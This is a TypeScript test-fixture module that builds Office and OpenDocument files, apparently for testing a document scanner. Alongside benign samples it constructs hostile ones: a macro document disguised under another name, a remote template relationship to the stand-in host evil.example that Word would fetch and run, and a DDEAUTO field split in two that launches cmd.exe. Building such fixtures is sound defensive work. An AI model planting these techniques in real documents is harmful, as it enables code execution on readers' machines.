import { aZip, type ZipFile, type ZipOptions } from './zip.ts';

const OOXML = 'application/vnd.openxmlformats-officedocument';
export const DOCX = `${OOXML}.wordprocessingml.document`;
export const XLSX = `${OOXML}.spreadsheetml.sheet`;
export const PPTX = `${OOXML}.presentationml.presentation`;
export const ODT = 'application/vnd.oasis.opendocument.text';
export const ODS = 'application/vnd.oasis.opendocument.spreadsheet';

const declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const rels = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const mains = { [DOCX]: 'word/document.xml', [XLSX]: 'xl/workbook.xml', [PPTX]: 'ppt/presentation.xml' };

export interface OfficeParts extends ZipOptions {
  readonly more?: readonly ZipFile[];
  /** Of the main part; else the one of the type. */
  readonly mainType?: string;
  readonly body?: string;
  /** Further relations of the document. */
  readonly relations?: string;
}

/** A document with one sentence, as Office writes it. */
export function anOfficeFile(type: typeof DOCX | typeof XLSX | typeof PPTX, parts: OfficeParts = {}): Buffer {
  const {
    more = [],
    mainType = `${type}.main+xml`,
    body = '<w:t>一門 One door</w:t>',
    relations = '',
    ...options
  } = parts;
  const main = mains[type] ?? '';
  return aZip(
    [
      {
        name: '[Content_Types].xml',
        content: `${declaration}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="${mainType}"/></Types>`,
      },
      {
        name: '_rels/.rels',
        content: `${declaration}<Relationships><Relationship Id="rId1" Type="${rels}/officeDocument" Target="${main}"/>${relations}</Relationships>`,
      },
      { name: main, content: `${declaration}<w:document>${body}</w:document>` },
      ...more,
    ],
    options,
  );
}

export function anOpenDocument(type: typeof ODT | typeof ODS, more: readonly ZipFile[] = []): Buffer {
  return aZip([
    { name: 'mimetype', content: type, isStored: true },
    {
      name: 'content.xml',
      content: `${declaration}<office:document-content><office:scripts/></office:document-content>`,
    },
    ...more,
  ]);
}

/** As Word writes a document with macros, under another name. */
export const macroDocument = (): Buffer =>
  anOfficeFile(DOCX, {
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    more: [{ name: 'word/vbaProject.bin', content: compoundFile() }],
  });

/** How the old formats of Office begin, and every object that is put into the new ones. */
export const compoundFile = (): Buffer =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);

/** A template on another machine, which Word fetches and runs when the document is opened. */
export const remoteTemplate = (): Buffer =>
  anOfficeFile(DOCX, {
    relations: `<Relationship Id="rId9" Type="${rels}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>`,
  });

export const withLink = (): Buffer =>
  anOfficeFile(DOCX, {
    relations: `<Relationship Id="rId9" Type="${rels}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>`,
  });

/** A field that starts a program, written in two pieces. */
export const fieldThatStarts = (): Buffer =>
  anOfficeFile(DOCX, {
    body: '<w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\windows\\cmd.exe</w:instrText>',
  });
